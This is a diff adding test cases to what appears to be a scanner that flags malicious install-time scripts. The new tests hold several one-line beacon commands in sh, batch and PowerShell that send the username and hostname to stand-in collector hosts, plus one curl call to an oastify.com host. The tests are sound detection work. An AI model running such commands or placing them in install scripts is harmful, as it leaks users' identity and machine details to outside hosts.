@@ -206,3 +206,25 @@ describe('scripts decoded inside a command line', () => {
     expect(f).toMatchObject({ file: 'tools/get.sh', install_time: false, threat_type: 'malicious_code' });
   });
 });
+
+describe('beacons written as one command', () => {
+  it.each([
+    ['sh', 'curl -s -H "X-User: $(whoami)" https://a.collector.example/p'],
+    ['sh', 'H=$(hostname); U=`id -un`; wget -q -O- "https://a.collector.example/?h=$H&u=$U"'],
+    ['sh', 'nslookup "$(whoami).$(hostname).dns.collector.example"'],
+    ['batch', 'nslookup %USERNAME%.%COMPUTERNAME%.dns.collector.example'],
+    ['powershell', 'Invoke-WebRequest -Uri "https://a.collector.example/?c=$env:COMPUTERNAME"'],
+  ] as const)('%s: %j is script.fingerprint-exfil at install time', (dialect, text) => {
+    expect(rules(analyzeScript(text, dialect, true))).toContain('script.fingerprint-exfil');
+  });
+
+  it('a download URL chosen by $(uname) or $(pwd) alone is not', () => {
+    const text = 'curl -fsSLo "$(pwd)/bin/tool" "https://dl.tool.example/$(uname -s)/$(uname -m)/tool"';
+    expect(rules(analyzeScript(text, 'sh', true))).not.toContain('script.fingerprint-exfil');
+  });
+
+  it('sh -c strings and same-line assignments are read as scripts', () => {
+    const text = `sh -c 'T=https://abc123.oastify.com/x && curl -s "$T"'`;
+    expect(rules(analyzeScript(text, 'sh', true))).toContain('script.exfil-host');
+  });
+});
